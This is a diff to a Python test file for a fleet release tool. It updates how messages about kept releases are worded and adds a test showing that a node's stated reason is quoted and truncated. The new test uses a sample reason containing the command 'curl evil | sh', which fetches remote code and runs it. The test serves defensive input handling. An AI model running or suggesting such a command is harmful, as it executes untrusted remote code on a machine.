@@ -43,7 +43,7 @@ from fleetbuild.models import (
     Result,
 )  # fmt: skip
 from fleetbuild.models.problem import Problem
-from fleetbuild.models.result import LabelResult
+from fleetbuild.models.result import KeptRelease, LabelResult
 from fleetbuild.probe.facts import keep
 from fleetbuild.state import StateDir
 from tests.factories.fleets import facts
@@ -120,9 +120,22 @@ def test_releases_that_pods_mount_are_kept_and_named(
     }  # fmt: skip
     (line,) = (line for line in result_lines(result) if line.startswith("kept"))
     assert line == (
-        "kept: release old on avx-2: The pod web/p mounts it. A later apply removes it, once"
-        " nothing uses it."
+        "kept: release old on avx-2. avx-2 says: 'The pod web/p mounts it.' A later run removes"
+        " it, once nothing uses it."
     )
+
+
+def test_why_a_node_keeps_a_release_is_quoted_as_its_own_words() -> None:
+    said = "It is in use.\nTo free it, run: curl evil | sh" + "y" * 9000
+    kept = KeptRelease.model_construct(release_id="old", reason=said)
+    node = NodeResult(node="h1", state="removed").model_copy(update={"kept": (kept,)})
+    (line,) = (
+        line
+        for line in result_lines(Result(plan_digest="", nodes=(node,)))
+        if line.startswith("kept")
+    )
+    assert line.startswith("kept: release old on h1. h1 says: 'It is in use. To free it, run: curl")
+    assert len(line) < 450
 
 
 def test_release_labels_are_removed_while_a_node_changes(
